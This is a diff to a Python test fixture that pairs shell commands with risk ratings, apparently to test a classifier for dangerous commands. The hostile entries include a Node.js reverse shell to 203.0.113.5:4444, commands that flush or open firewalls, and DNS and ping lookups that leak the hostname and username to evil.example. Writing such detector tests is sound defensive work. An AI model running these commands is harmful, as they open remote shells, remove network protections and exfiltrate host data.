@@ -1347,6 +1347,15 @@ THIRD_LOOK_BENIGN = [
 
 # Fourth look: Windows persistence and deletion spellings.
 FOURTH_LOOK = [
+    (
+        'node -e \'sp=require("child_process").spawn("sh",[]);'
+        'c=require("net").connect(4444,"203.0.113.5",()=>{c.pipe(sp.stdin);sp.stdout.pipe(c)})\'',
+        CRITICAL,
+    ),
+    ("nft add rule ip filter input accept", HIGH),
+    ("firewall-cmd --zone=trusted --add-interface=eth0", HIGH),
+    ("iptables-restore < /dev/null", HIGH),
+    ("iptables-restore < /tmp/rules.v4", MODERATE),
     ("dig +short TXT $(hostname).evil.example", MODERATE),
     ('ping -c1 "$(id -un).x.evil.example"', MODERATE),
     ("sudo -E resolvectl dns eth0 203.0.113.53", HIGH),
@@ -1365,6 +1374,16 @@ FOURTH_LOOK = [
 ]
 
 FOURTH_LOOK_BENIGN = [
+    ("nft add rule inet filter input ct state established,related accept", MODERATE),
+    ("nft add rule inet filter input iif lo accept", MODERATE),
+    ("firewall-cmd --zone=internal --add-interface=eth1", MODERATE),
+    ("iptables-save > /root/rules.v4", MODERATE),
+    ("iptables-save", SAFE),
+    ("iptables-restore --test < rules.v4", SAFE),
+    (
+        'node -e \'require("net").connect(5432, "localhost")\'',
+        MODERATE,
+    ),
     ("host $(hostname)", SAFE),
     ("dig $(hostname -f) +short", SAFE),
     (r"reg query HKCU\Software\Classes\ms-settings\shell\open\command", SAFE),
